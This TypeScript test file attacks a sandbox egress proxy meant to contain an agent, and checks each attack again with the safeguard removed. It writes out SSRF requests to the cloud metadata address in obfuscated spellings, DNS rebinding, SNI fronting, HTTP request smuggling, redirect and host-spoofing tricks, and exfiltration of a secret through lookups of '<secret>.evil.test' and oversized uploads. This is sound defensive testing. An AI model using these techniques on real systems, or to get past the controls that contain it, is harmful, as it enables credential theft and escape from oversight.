// Can an agent get the proxy to bring it where it may not go, or to carry out what it may not send?
import { once } from "node:events";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer, type Server } from "node:net";
import type { EgressOptions } from "../../functions/sandbox/egress.ts";
import { readHello } from "../../functions/sandbox/egress-hello.ts";
import { hideAnother, sayHello } from "../sandbox/hello.ts";
import { type Edit, edit } from "../simulation/mutants/edit.ts";
import { answersOf, isProxyLed } from "./cloud.ts";
import type { Field, Program } from "./field.ts";
import { egressFile, type Speech, speak, throughEgress } from "./through-egress.ts";
import type { Vector } from "./vector.ts";

const hidden = "hidden.test";
const dialFile = "functions/sandbox/egress-dial.ts";
const policyFile = "functions/sandbox/egress-policy.ts";
const forwardFile = "functions/sandbox/egress-forward.ts";
const tunnelFile = "functions/sandbox/egress-tunnel.ts";

/** Where an attack takes place: what may be reached, and what is said to the proxy. */
interface Scene {
  options: Partial<EgressOptions>;
  speeches: Speech[];
  /** Left out: whoever reads the secret has won. */
  isWon?(): boolean;
}

interface Trick {
  attack: string;
  heldBy: string;
  needs?: Vector["needs"];
  /** The lines that hold it. */
  without: readonly Edit[];
  set(field: Field): Promise<Scene>;
}

/** One speech that wins is enough for the attack; without the safeguard each must win, or it would attack nothing. */
function throughProxy({ attack, heldBy, needs = [], without, set }: Trick): Vector {
  const attempt = async (field: Field, edits: readonly Edit[]) => {
    const { options, speeches, isWon } = await set(field);
    const answers = answersOf(await throughEgress(field, speak(speeches), options, edits));
    return isWon ? [isWon()] : answers.map((answer) => answer.includes(field.secret));
  };
  return {
    ...{ attack, heldBy, needs },
    run: async (field) => (await attempt(field, [])).some(Boolean),
    control: async (field) => (await attempt(field, without)).every(Boolean),
  };
}

async function listen(field: Field, server: Server, host = "127.0.0.1", port = 0): Promise<number> {
  server.listen(port, host);
  await once(server, "listening");
  field.undo(() => server.close());
  return (server.address() as AddressInfo).port;
}

/** A server of several names, of which one is not for the sandbox. */
function serveNames({ secret }: Field): Server {
  return createHttpServer((request, response) => {
    const isHidden = request.headers.host?.startsWith(hidden) || request.url?.startsWith(metadataPath);
    request.resume().on("end", () => response.end(isHidden ? secret : "public"));
  });
}

/** The same for TLS: which of its names is wanted stands in the first message, or is hidden in it. `greeting`: it speaks first. */
function serveTls({ secret }: Field, greeting = ""): Server {
  return createServer((socket) => {
    socket.on("error", () => undefined).write(greeting);
    socket.once("data", (bytes) => {
      const hello = readHello(bytes);
      socket.end(hello.kind === "hello" && (hello.isEncrypted || hello.serverName === hidden) ? secret : "public");
    });
  });
}

/** Whoever gets here and says something has won. */
const serveAnyone = ({ secret }: Field): Server =>
  createServer((socket) => {
    const answer = `HTTP/1.1 200 OK\r\nContent-Length: ${secret.length}\r\n\r\n${secret}`;
    socket.on("error", () => undefined).once("data", () => socket.end(answer));
  });

/** Reads requests as the worst of servers would: by the length, else by the chunks, and on and on, whatever `connection` says. */
function serveCredulously(field: Field) {
  const seen: string[] = [];
  const server = createServer((socket) => {
    let bytes = "";
    socket.setEncoding("latin1").on("error", () => undefined);
    socket.on("data", (chunk) => {
      bytes += chunk;
      for (let end = findEnd(bytes); end > 0 && end <= bytes.length; end = findEnd(bytes)) {
        seen.push(/^host: (\S+)/im.exec(bytes)?.[1] ?? "");
        bytes = bytes.slice(end);
        socket.write("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
      }
    });
  });
  return { listening: listen(field, server), isWon: () => seen.includes(hidden) };
}

/** 0 when it has not come yet. */
function findEnd(request: string): number {
  const body = request.indexOf("\r\n\r\n") + 4;
  if (body < 4) return 0;
  const head = request.slice(0, body);
  const length = /^content-length: (\d+)/im.exec(head)?.[1];
  if (length !== undefined || !/^transfer-encoding: chunked/im.test(head)) return body + Number(length ?? 0);
  return request.indexOf("0\r\n\r\n", body) + 5;
}

const only = (...allowPrivate: string[]): EgressOptions["rules"] => ({ allow: [], allowPrivate });
const get = (url: string, host: string) => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
const connectTo = (target: string) => `CONNECT ${target} HTTP/1.1\r\n\r\n`;
const metadataPath = "/latest/meta-data/";
const smuggled = `GET / HTTP/1.1\r\nHost: ${hidden}\r\n\r\n`;

const anyTarget = edit(
  policyFile,
  "  return (target) => {\n",
  '  return (target) => {\n    return { kind: "allowed", mayBePrivate: true };\n',
);
const anyAddress = edit(dialFile, "if (!addresses.every(mayReach))", "if (false)");
const anyServerName = edit(tunnelFile, "return normaliseHost(hello.serverName) === host ?", "return true ?");

/** A loopback address of its own, where ports are free that are not free elsewhere; whatever is looked up leads there. */
async function onPort(field: Field, port: number, server: Server) {
  const address = `127.${[1, 2, 3].map(() => 1 + Math.floor(Math.random() * 250)).join(".")}`;
  await listen(field, server, address, port);
  return async () => [address];
}

/** The metadata address, as it is written in many ways. A name server of the test takes each for an address of its own. */
function byAddress(attack: string, hosts: readonly string[]): Vector {
  return throughProxy({
    attack,
    heldBy: "an allowlist of names, judged before anything is looked up or connected to",
    needs: ["root"],
    without: [anyTarget],
    set: async (field) => ({
      options: { resolve: await onPort(field, 80, serveNames(field)), rules: { allow: ["open.test", "*.wide.test"] } },
      speeches: hosts.flatMap((host) => [
        [get(`http://${host}${metadataPath}`, host)],
        [connectTo(`${host}:80`), get(metadataPath, host)],
      ]),
    }),
  });
}

/** How long the proxy waits for a first message here, and a silence that is longer. */
const helloMs = 200;
const silenceMs = 1_500;
const anyOpeningAtLast = edit(
  tunnelFile,
  "  if (opening.length === 0 && !mustSpeak) opening = (await readChunk(client)) ?? opening;\n",
  "",
);

export const proxyVectors: Vector[] = [
  byAddress("have the proxy fetch cloud credentials by address", ["169.254.169.254", "[fd00:ec2::254]"]),
  byAddress("have the proxy fetch cloud credentials by another spelling of the address", [
    ...["2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518"],
    ...["[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]"],
  ]),
  {
    attack: "reach the metadata address by an allowed name that leads to it",
    heldBy: "addresses that are judged after the name is resolved",
    needs: ["root", "ip"],
    run: (field) => isProxyLed(field, { answers: [["169.254.169.254"]] }),
    control: (field) => isProxyLed(field, { answers: [["169.254.169.254"]] }, [anyAddress]),
  },
  throughProxy({
    attack: "reach the machine's loopback by an allowed name that leads to it",
    heldBy: "addresses that are judged after the name is resolved",
    without: [anyAddress],
    async set(field) {
      const port = await listen(field, serveAnyone(field));
      return {
        options: { rules: { allow: [`open.test:${port}`] } },
        speeches: [[connectTo(`open.test:${port}`), "hello"]],
      };
    },
  }),
  {
    attack: "have an allowed name lead elsewhere between the check and the connection (rebinding)",
    heldBy: "a connection to the very address that was judged",
    needs: ["root", "ip"],
    run: (field) => isProxyLed(field, rebinding),
    control: (field) => isProxyLed(field, rebinding, [lookUpAgain]),
  },
  throughProxy({
    attack: "ask an allowed address for another name by the host header of a plain request",
    heldBy: "a host header that is made from the URL",
    without: [edit(forwardFile, "host: url.host,", "host: incoming.headers.host,")],
    async set(field) {
      const target = `inside.test:${await listen(field, serveNames(field))}`;
      return { options: { rules: only(target) }, speeches: [[get(`http://${target}/`, hidden)]] };
    },
  }),
  throughProxy({
    attack: "ask an allowed address for another name by the name in TLS (domain fronting)",
    heldBy: "the first message of TLS, which must name what was asked for",
    without: [anyServerName],
    async set(field) {
      const target = `inside.test:${await listen(field, serveTls(field))}`;
      return { options: { rules: only(target) }, speeches: [[connectTo(target), await sayHello(hidden)]] };
    },
  }),
  throughProxy({
    attack: "wait with the name in TLS until nobody looks at it any more",
    heldBy: "a first message that is looked at whenever it comes",
    without: [anyOpeningAtLast],
    async set(field) {
      const silent = `inside.test:${await listen(field, serveTls(field))}`;
      const greeting = `inside.test:${await listen(field, serveTls(field, "220 ready\r\n"))}`;
      const hello = await sayHello(hidden);
      const speeches = [silent, greeting].map((target) => [connectTo(target), silenceMs, hello]);
      return { options: { rules: only(silent, greeting), helloMs }, speeches };
    },
  }),
  throughProxy({
    attack: "hide the name in TLS from the proxy, which the server can read (encrypted ClientHello)",
    heldBy: "a refusal of first messages that hide another one",
    without: [edit(tunnelFile, "if (hello.isEncrypted)", "if (false)")],
    async set(field) {
      const target = `inside.test:${await listen(field, serveTls(field))}`;
      const hello = hideAnother(await sayHello("inside.test"));
      return { options: { rules: only(target) }, speeches: [[connectTo(target), hello]] };
    },
  }),
  throughProxy({
    attack: "use an allowed HTTPS port for something else than TLS",
    heldBy: "the first message of TLS, without which nothing passes on port 443",
    needs: ["root"],
    without: [edit(tunnelFile, 'isHttps ? "something else than TLS on port 443" : undefined', "undefined")],
    set: async (field) => ({
      options: { resolve: await onPort(field, 443, serveAnyone(field)), rules: only("inside.test:443") },
      speeches: [[connectTo("inside.test:443"), "SSH-2.0-tunnel\r\n"]],
    }),
  }),
  throughProxy({
    attack: "wait on an allowed HTTPS port until something else than TLS is let through",
    heldBy: "a time after which silence is refused on port 443",
    needs: ["root"],
    without: [edit(tunnelFile, 'isHttps ? "silence where TLS should begin" : undefined', "undefined")],
    set: async (field) => ({
      options: { resolve: await onPort(field, 443, serveAnyone(field)), rules: only("inside.test:443"), helloMs },
      speeches: [[connectTo("inside.test:443"), silenceMs, "SSH-2.0-tunnel\r\n"]],
    }),
  }),
  throughProxy({
    attack: "send a plain request to an allowed HTTPS port",
    heldBy: "port 443 closed to plain requests",
    needs: ["root"],
    without: [edit(policyFile, "if (target.plain && target.port === httpsPort)", "if (false)")],
    set: async (field) => ({
      options: { resolve: await onPort(field, 443, serveAnyone(field)), rules: only("inside.test:443") },
      speeches: [[get("http://inside.test:443/", "inside.test")]],
    }),
  }),
  throughProxy({
    attack: "hide a second request in the body of a first whose length `connection` calls its own",
    heldBy: "a body that is framed as it came",
    without: [edit(forwardFile, "...frameBody(incoming), ", "")],
    async set(field) {
      const { listening, isWon } = serveCredulously(field);
      const target = `inside.test:${await listening}`;
      const head = `Host: x\r\nConnection: content-length\r\nContent-Length: ${smuggled.length}`;
      return {
        options: { rules: only(target) },
        speeches: [[`GET http://${target}/ HTTP/1.1\r\n${head}\r\n\r\n${smuggled}`]],
        isWon,
      };
    },
  }),
  throughProxy({
    attack: "hide a second request behind two frames that disagree (length and chunks)",
    heldBy: "a parser that refuses both at once",
    without: [
      edit(egressFile, "createServer({ maxHeaderSize", "createServer({ insecureHTTPParser: true, maxHeaderSize"),
    ],
    async set(field) {
      const { listening, isWon } = serveCredulously(field);
      const target = `inside.test:${await listening}`;
      const chunk = `${smuggled.length.toString(16)}\r\n`;
      const head = `Host: x\r\nContent-Length: ${chunk.length}\r\nTransfer-Encoding: chunked`;
      return {
        options: { rules: only(target) },
        speeches: [[`POST http://${target}/ HTTP/1.1\r\n${head}\r\n\r\n${chunk}${smuggled}\r\n0\r\n\r\n`]],
        isWon,
      };
    },
  }),
  throughProxy({
    attack: "send a second request to a name that is not allowed on the connection of a first",
    heldBy: "each request judged by itself",
    without: [
      edit(dialFile, "const judgement = policy(target);", "const judgement = (openDial.first ??= policy(target));"),
    ],
    async set(field) {
      const port = await listen(field, serveNames(field));
      const first = `GET http://inside.test:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`;
      return {
        options: { rules: only(`inside.test:${port}`) },
        speeches: [[first, get(`http://${hidden}:${port}/`, "x")]],
      };
    },
  }),
  throughProxy({
    attack: "pass for an allowed name by beginning or ending like one",
    heldBy: "names compared as a whole",
    without: [edit(policyFile, ": host === entry.host;", ": host.includes(entry.host);")],
    async set(field) {
      const port = await listen(field, serveAnyone(field));
      return {
        options: { rules: only(`inside.test:${port}`) },
        speeches: ["inside.test.evil.test", "evilinside.test", "x.inside.test"].flatMap((host) => [
          [connectTo(`${host}:${port}`), "hello"],
          [get(`http://${host}:${port}/`, "inside.test")],
        ]),
      };
    },
  }),
  throughProxy({
    attack: "reach another port of an allowed host, such as its shell or its mail",
    heldBy: "ports that belong to the rule",
    without: [edit(policyFile, "if (port !== expected) return false;", "")],
    async set(field) {
      const port = await listen(field, serveAnyone(field));
      return {
        options: { rules: only(`inside.test:${await listen(field, serveNames(field))}`) },
        speeches: [[connectTo(`inside.test:${port}`), "hello"], [get(`http://inside.test:${port}/`, "inside.test")]],
      };
    },
  }),
  throughProxy({
    attack: "have a server redirect the proxy to an address that is not allowed",
    heldBy: "redirects left to the client, which has to ask again",
    without: [
      edit(
        forwardFile,
        "    try {\n      outgoing.writeHead(",
        `    const { location } = response.headers;
    if (location) return void openRequest(location, (next) => next.pipe(outgoing)).end();
    try {\n      outgoing.writeHead(`,
      ),
    ],
    async set(field) {
      const location = `http://127.0.0.1:${await listen(field, serveNames(field))}${metadataPath}`;
      const leadAway = createHttpServer((_, response) => void response.writeHead(302, { location }).end());
      const target = `inside.test:${await listen(field, leadAway)}`;
      return { options: { rules: only(target) }, speeches: [[get(`http://${target}/`, "x")]] };
    },
  }),
  {
    attack: "carry out what it has stolen in names that the proxy looks up",
    heldBy: "the allowlist, which comes before the name server",
    run: (field) => lookUp(field),
    control: (field) => lookUp(field, [lookUpFirst]),
  },
  {
    attack: "send the whole workspace out through an allowed host",
    heldBy: "an end to what a sandbox may send",
    run: (field) => upload(field, inTunnel),
    control: (field) => upload(field, inTunnel, [edit(budgetFile, "if (left > 0) return true;", "return true;")]),
  },
  {
    attack: "send it out in the addresses and headers of requests",
    heldBy: "an end to what a sandbox may send, heads included",
    run: (field) => upload(field, inHeads),
    control: (field) => upload(field, inHeads, [headsForNothing]),
  },
];

const budgetFile = "functions/sandbox/egress-budget.ts";
const headsForNothing = edit(forwardFile, "if (!budget.spend(measureHead(incoming), target))", "if (false)");
const lookUpAgain = edit(
  dialFile,
  "const socket = await connect(address, target.port);",
  "const socket = await connect((await resolve(target.host))[0] ?? address, target.port);",
);
const lookUpFirst = edit(
  dialFile,
  "const judgement = policy(target);",
  "await findAddresses(resolve, target.host);\n    const judgement = policy(target);",
);
/** The first answer of the name server may be reached, every later one leads to the metadata address. */
const rebinding = { answers: [["127.0.0.1"], ["169.254.169.254"]], isPrivate: true };

async function lookUp(field: Field, without: Edit[] = []): Promise<boolean> {
  const asked: string[] = [];
  const resolve = async (name: string) => {
    asked.push(name);
    return [];
  };
  const name = `${field.secret}.evil.test`;
  const speeches = [[connectTo(`${name}:443`)], [get(`http://${name}/`, "open.test")]];
  await throughEgress(field, speak(speeches), { rules: { allow: ["open.test"] }, resolve }, without);
  return asked.length > 0;
}

const mostBytes = 1_000_000;
const triedBytes = 3_000_000;
const inTunnel = (target: string): Program => speak([[connectTo(target), Buffer.alloc(triedBytes, "x")]]);
const inHeads = (target: string): Program => {
  const header = "x".repeat(6_000);
  const ask = (n: number) => get(`http://${target}/${n}/${header}`, `x\r\nX-A: ${header}`);
  return speak(Array.from({ length: triedBytes / 12_000 }, (_, n) => [ask(n)]));
};

/** Three megabytes, where one is allowed. */
async function upload(field: Field, program: (target: string) => Program, without: Edit[] = []): Promise<boolean> {
  let heard = 0;
  const server = createServer((socket) => {
    socket
      .on("error", () => undefined)
      .on("data", (bytes) => {
        heard += bytes.length;
        if (bytes.includes("\r\n\r\n")) socket.end("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
      });
  });
  const target = `inside.test:${await listen(field, server)}`;
  const options = { rules: only(target), maxUploadBytes: mostBytes, maxConnections: 1_000 };
  await throughEgress(field, program(target), options, without);
  return heard > 2 * mostBytes;
}
